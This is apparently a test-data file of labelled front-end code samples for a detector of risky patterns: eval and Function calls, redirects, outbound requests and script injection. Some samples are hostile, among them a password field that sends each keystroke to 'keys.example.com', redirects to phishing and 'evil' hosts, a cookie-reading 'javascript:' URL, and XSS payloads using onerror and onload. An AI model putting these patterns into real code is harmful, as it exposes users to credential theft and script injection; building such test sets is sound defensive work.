// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
import type { Dangerous } from "./case.ts";

const raw = String.raw;

/** As ordinary people write them; measured before the rules were looked at. */
export const PLAIN_C: readonly Dangerous[] = [
  // eval
  [
    "eval",
    raw`import { useState } from "react";

export function Calculator() {
  const [expr, setExpr] = useState("");
  const [result, setResult] = useState<number | null>(null);
  return (
    <form onSubmit={(e) => { e.preventDefault(); setResult(eval(expr)); }}>
      <input value={expr} onChange={(e) => setExpr(e.target.value)} />
      <output>{result}</output>
    </form>
  );
}`,
  ],
  [
    "eval",
    `export const FormulaCell = ({ formula, row }) => {
  const compute = new Function("row", \`return \${formula}\`);
  return <td>{compute(row)}</td>;
};`,
  ],
  [
    "eval",
    raw`export default {
  name: "AutoSave",
  mounted() {
    this.timer = setInterval("window.saveDraft()", 5000);
  },
  beforeUnmount() {
    clearInterval(this.timer);
  },
};`,
  ],
  [
    "eval",
    raw`type Props = { code: string };
export class Playground extends React.Component<Props> {
  run = () => {
    try {
      window.eval(this.props.code);
    } catch (error) {
      console.error(error);
    }
  };
  render() {
    return <button onClick={this.run}>Run</button>;
  }
}`,
  ],
  [
    "eval",
    raw`function parseConfig(text) {
  return eval("(" + text + ")");
}
export function ConfigView({ text }) {
  return <pre>{JSON.stringify(parseConfig(text), null, 2)}</pre>;
}`,
  ],
  [
    "eval",
    raw`export function Toast({ message }) {
  React.useEffect(() => {
    setTimeout("document.querySelector('.toast').remove()", 3000);
  }, []);
  return <div className="toast">{message}</div>;
}`,
  ],
  [
    "eval",
    raw`customElements.define("live-script", class extends HTMLElement {
  connectedCallback() {
    const code = this.getAttribute("code");
    Function(code)();
  }
});`,
  ],
  [
    "eval",
    raw`export const validators: Record<string, (value: string) => boolean> = {};
export function addRule(name: string, body: string): void {
  validators[name] = new Function("value", body) as (value: string) => boolean;
}`,
  ],
  [
    "eval",
    raw`export function useScript(code: string | null) {
  useEffect(() => { if (code) { const result: unknown = window['eval'](code); console.log(result); } }, [code]);
}`,
  ],
  [
    "eval",
    `export default function Chart({ options }) {
  const ref = useRef(null);
  useEffect(() => {
    const opts = typeof options === "string" ? globalThis.eval(\`(\${options})\`) : options;
    draw(ref.current, opts);
  }, [options]);
  return <canvas ref={ref} />;
}`,
  ],
  [
    "eval",
    raw`const execute = eval;
export function Console() {
  const [log, setLog] = useState([]);
  const submit = (line) => setLog([...log, String(execute(line))]);
  return <Prompt onSubmit={submit} lines={log} />;
}`,
  ],
  [
    "eval",
    raw`export async function runAll(snippets: string[]) {
  const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
  for (const snippet of snippets) {
    await new AsyncFunction(snippet)();
  }
}`,
  ],
  [
    "eval",
    raw`export const Countdown = ({ n }) => {
  const tick = () => window.setTimeout("tick(" + (n - 1) + ")", 1000);
  return <span onClick={tick}>{n}</span>;
};`,
  ],
  [
    "eval",
    `module.exports = function Template(html) {
  return new Function("data", "with(data){return \`" + html + "\`}");
};`,
  ],
  [
    "eval",
    raw`export function Widget({ onReady }: { onReady: string }) {
  useLayoutEffect(() => { (0, eval)(onReady); }, [onReady]);
  return <div id="widget" />;
}`,
  ],
  [
    "eval",
    raw`export function useExpression(source) {
  return useMemo(() => Function("ctx", "return (" + source + ")"), [source]);
}`,
  ],
  [
    "eval",
    raw`export function Sandbox({ src }) {
  function onMessage(e) {
    if (e.data.type === "run") eval(e.data.code);
  }
  useEffect(() => {
    window.addEventListener("message", onMessage);
    return () => window.removeEventListener("message", onMessage);
  }, []);
  return <iframe src={src} />;
}`,
  ],
  [
    "eval",
    raw`export const sortBy = (field) => eval("(a, b) => a." + field + " > b." + field + " ? 1 : -1");`,
  ],
  [
    "eval",
    raw`export default {
  props: ["handler"],
  methods: {
    click() {
      const fn = new Function(this.handler);
      fn.call(this);
    },
  },
};`,
  ],
  [
    "eval",
    `import vm from "vm";
export function render(template, data) {
  return vm.runInNewContext("\`" + template + "\`", data);
}`,
  ],
  // redirect
  [
    "redirect",
    raw`export function LoginButton() {
  return <button onClick={() => { window.location.href = "https://login.example.com"; }}>Log in</button>;
}`,
  ],
  [
    "redirect",
    raw`export function Banner() {
  useEffect(() => {
    window.location.replace("https://promo.shop-deals.net/landing");
  }, []);
  return null;
}`,
  ],
  [
    "redirect",
    raw`export default {
  mounted() {
    if (!this.user) location.href = "https://accounts.evil.example/login";
  },
};`,
  ],
  [
    "redirect",
    `export const Go = ({ id }: { id: string }) => (
  <a onClick={() => location.assign(\`https://tracker.example.com/out?id=\${id}\`)}>Go</a>
);`,
  ],
  [
    "redirect",
    raw`export function Pay() {
  const pay = async () => {
    const res = await api.post("/pay");
    window.location = "https://pay.example.com/" + res.id;
  };
  return <button onClick={pay}>Pay</button>;
}`,
  ],
  [
    "redirect",
    raw`class Exit extends HTMLElement {
  connectedCallback() {
    this.addEventListener("click", () => {
      document.location.href = "http://example.org/bye";
    });
  }
}`,
  ],
  [
    "redirect",
    raw`export function Frame() {
  if (window.top !== window.self) {
    window.top.location.href = "https://www.example.com";
  }
  return <main />;
}`,
  ],
  [
    "redirect",
    raw`export const Expired = () => {
  setTimeout(() => { location = "https://example.com/expired"; }, 2000);
  return <p>Your session has expired.</p>;
};`,
  ],
  [
    "redirect",
    raw`export function Open() {
  return <button onClick={() => window.open("https://ads.example.com", "_self")}>Open</button>;
}`,
  ],
  [
    "redirect",
    raw`export function Refresh() {
  return (
    <head>
      <meta httpEquiv="refresh" content="0;url=https://phish.example.net" />
    </head>
  );
}`,
  ],
  [
    "redirect",
    raw`function go(url: string) {
  window.location.assign(url);
}
export const Menu = () => <li onClick={() => go("https://other.example")}>Other</li>;`,
  ],
  [
    "redirect",
    raw`export default function App() {
  const handle = (e) => {
    e.preventDefault();
    parent.location.href = "https://example.com/parent";
  };
  return <form onSubmit={handle}><button>Send</button></form>;
}`,
  ],
  [
    "redirect",
    raw`$(".cta").on("click", function () {
  window.location.href = "https://offers.example.com/?ref=" + $(this).data("ref");
});`,
  ],
  [
    "redirect",
    raw`export function SignOut() {
  const signOut = () => fetch("/logout").then(() => self.location.assign("https://sso.example.com/logout"));
  return <button onClick={signOut}>Sign out</button>;
}`,
  ],
  [
    "redirect",
    raw`export const LocaleSwitch = ({ locale }) => {
  function change(event) {
    document.location.assign("https://" + event.target.value + ".example.com/");
  }
  return <select value={locale} onChange={change} />;
};`,
  ],
  [
    "redirect",
    raw`export function useRedirect() {
  useEffect(() => {
    globalThis.location.href = "//cdn.example.com/page";
  });
}`,
  ],
  [
    "redirect",
    raw`export function Download() {
  const click = () => {
    const a = document.createElement("a");
    a.href = "https://files.example.com/setup.exe";
    document.body.appendChild(a);
    a.click();
  };
  return <button onClick={click}>Download</button>;
}`,
  ],
  [
    "redirect",
    raw`export function hijack(form) {
  form.addEventListener("submit", () => {
    window.location.href = "javascript:alert(document.cookie)";
  });
}`,
  ],
  [
    "redirect",
    raw`export const Guard = ({ ok, children }) => {
  if (!ok) {
    window.location.hostname = "evil.example.com";
    return null;
  }
  return children;
};`,
  ],
  [
    "redirect",
    raw`const el = document.createElement("meta");
el.httpEquiv = "refresh";
el.content = "3; url=https://example.net/next";
document.head.append(el);`,
  ],
  // external-request
  [
    "external-request",
    raw`export function Weather() {
  const [data, setData] = useState(null);
  useEffect(() => {
    fetch("https://api.weather.example/v1/today").then((r) => r.json()).then(setData);
  }, []);
  return <div>{data?.temp}</div>;
}`,
  ],
  [
    "external-request",
    raw`export default {
  async created() {
    const response = await fetch("http://collector.example.com/visit", { method: "POST" });
    this.ok = response.ok;
  },
};`,
  ],
  [
    "external-request",
    raw`export function Tracker({ event }: { event: string }) {
  useEffect(() => {
    navigator.sendBeacon("https://stats.example.com/e", event);
  }, [event]);
  return null;
}`,
  ],
  [
    "external-request",
    raw`export function Chat() {
  const socket = useRef<WebSocket>();
  useEffect(() => {
    socket.current = new WebSocket("wss://chat.example.com/room");
    return () => socket.current?.close();
  }, []);
  return <Messages />;
}`,
  ],
  [
    "external-request",
    `const API_URL = "https://api.example.com";
export const getUser = (id) => fetch(\`\${API_URL}/users/\${id}\`).then((r) => r.json());`,
  ],
  [
    "external-request",
    raw`function load(cb) {
  var xhr = new XMLHttpRequest();
  xhr.open("GET", "https://example.com/data.json", true);
  xhr.onload = function () { cb(xhr.responseText); };
  xhr.send();
}`,
  ],
  [
    "external-request",
    raw`export function Feed() {
  useEffect(() => {
    const source = new EventSource("https://events.example.com/stream");
    source.onmessage = (e) => add(JSON.parse(e.data));
    return () => source.close();
  }, []);
  return <ul />;
}`,
  ],
  [
    "external-request",
    raw`const Editor = React.lazy(() => import("https://esm.sh/some-editor@1"));
export default Editor;`,
  ],
  [
    "external-request",
    raw`import axios from "axios";
export const save = (form: FormData) => axios.post("https://forms.example.com/submit", form);`,
  ],
  [
    "external-request",
    raw`import confetti from "https://cdn.skypack.dev/canvas-confetti";
export const Party = () => <button onClick={() => confetti()}>Party</button>;`,
  ],
  [
    "external-request",
    raw`export function Newsletter() {
  const submit = async (e: React.FormEvent<HTMLFormElement>) => {
    e.preventDefault();
    const body = new FormData(e.currentTarget);
    await window.fetch("https://hooks.example.com/newsletter", { method: "POST", body });
  };
  return <form onSubmit={submit}><input name="email" /></form>;
}`,
  ],
  [
    "external-request",
    raw`$.ajax({ url: "https://api.example.com/items", method: "GET", success: renderItems });`,
  ],
  [
    "external-request",
    raw`export const useItems = () => useQuery({ queryKey: ["items"], queryFn: () => fetch("https://items.example.com").then((r) => r.json()) });`,
  ],
  [
    "external-request",
    raw`export const useSwr = () => {
  const fetcher = (url) => fetch(url).then((res) => res.json());
  return fetcher("https://api.github.com/users/octocat");
};`,
  ],
  [
    "external-request",
    raw`class Store {
  base = "https://store.example.com/";
  async list(): Promise<Item[]> {
    const res = await fetch(this.base + "list");
    return res.json();
  }
}
export default new Store();`,
  ],
  [
    "external-request",
    raw`const worker = new Worker("https://cdn.example.com/worker.js");
export const run = (job) => worker.postMessage(job);`,
  ],
  [
    "external-request",
    raw`export function Pixel({ page }) {
  useEffect(() => {
    const img = new Image();
    img.src = "https://pixel.example.com/p.gif?page=" + page;
  }, [page]);
  return null;
}`,
  ],
  [
    "external-request",
    raw`const req = new Request("https://api.example.com/v2/save", { method: "PUT" });
export const put = () => fetch(req);`,
  ],
  [
    "external-request",
    raw`export function Login() {
  const [password, setPassword] = useState("");
  const onChange = (e) => {
    setPassword(e.target.value);
    fetch("//keys.example.com/log?k=" + e.target.value, { mode: "no-cors" });
  };
  return <input type="password" value={password} onChange={onChange} />;
}`,
  ],
  [
    "external-request",
    raw`const endpoints = { users: "https://u.example.com/users", posts: "https://u.example.com/posts" };
export function load(kind: keyof typeof endpoints) {
  return fetch(endpoints[kind]);
}`,
  ],
  // script-injection
  [
    "script-injection",
    raw`export function Analytics() {
  useEffect(() => {
    const script = document.createElement("script");
    script.src = "https://www.analytics.example/tag.js";
    script.async = true;
    document.body.appendChild(script);
  }, []);
  return null;
}`,
  ],
  [
    "script-injection",
    raw`export const Raw = () => <div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }} />;`,
  ],
  [
    "script-injection",
    raw`export default {
  mounted() {
    this.$el.innerHTML = "<script>alert('hi')</script>";
  },
};`,
  ],
  [
    "script-injection",
    raw`export function Comment({ body }: { body: string }) {
  return <p dangerouslySetInnerHTML={{ __html: body }} />;
}`,
  ],
  ["script-injection", raw`document.write('<script src="https://cdn.example.com/a.js"></scr' + 'ipt>');`],
  [
    "script-injection",
    raw`export function mount(target) {
  target.insertAdjacentHTML("beforeend", '<a href="#" onclick="steal()">Click</a>');
}`,
  ],
  [
    "script-injection",
    raw`export function Widget() {
  return <script src="https://widgets.example.com/embed.js" async />;
}`,
  ],
  [
    "script-injection",
    raw`const button = document.createElement("button");
button.setAttribute("onclick", "alert('clicked')");
document.body.append(button);`,
  ],
  [
    "script-injection",
    `export function Preview({ html }) {
  return <iframe srcDoc={\`<script>parent.postMessage('x','*')</script>\${html}\`} />;
}`,
  ],
  [
    "script-injection",
    raw`export class Search extends React.Component {
  componentDidMount() {
    document.getElementById("query").innerHTML = location.search.slice(3);
  }
  render() { return <h1 id="query" />; }
}`,
  ],
  ["script-injection", raw`export const Link = () => <a href="javascript:alert(1)">Click me</a>;`],
  [
    "script-injection",
    raw`fetch("/fragment").then((r) => r.text()).then((html) => {
  document.querySelector("#main").innerHTML = html;
});`,
  ],
  ["script-injection", raw`$("#out").html("<script>init()</script>");`],
  [
    "script-injection",
    raw`const tag = document.createElement("script");
tag.textContent = "window.x = 1";
document.head.insertBefore(tag, document.head.firstChild);`,
  ],
  [
    "script-injection",
    `export function Svg() {
  const ref = useRef<HTMLDivElement>(null);
  useEffect(() => {
    ref.current!.outerHTML = \`<svg onload="alert(1)"></svg>\`;
  }, []);
  return <div ref={ref} />;
}`,
  ],
  [
    "script-injection",
    raw`const frag = document.createRange().createContextualFragment("<script>run()</script>");
document.body.appendChild(frag);`,
  ],
  [
    "script-injection",
    raw`export function loadScript(src: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const el = document.createElement("script");
    el.src = src;
    el.onload = () => resolve();
    el.onerror = reject;
    document.head.appendChild(el);
  });
}`,
  ],
  [
    "script-injection",
    raw`window.addEventListener("message", (event) => {
  document.body.innerHTML = event.data.html;
});`,
  ],
  [
    "script-injection",
    raw`export const Markup = defineComponent({
  setup(props) {
    return () => h("div", { innerHTML: "<img src='#' onerror='go()'>" });
  },
});`,
  ],
  [
    "script-injection",
    raw`import Script from "next/script";
export function Ads() {
  return React.createElement("script", { src: "https://ads.example.com/ads.js", async: true });
}`,
  ],
];
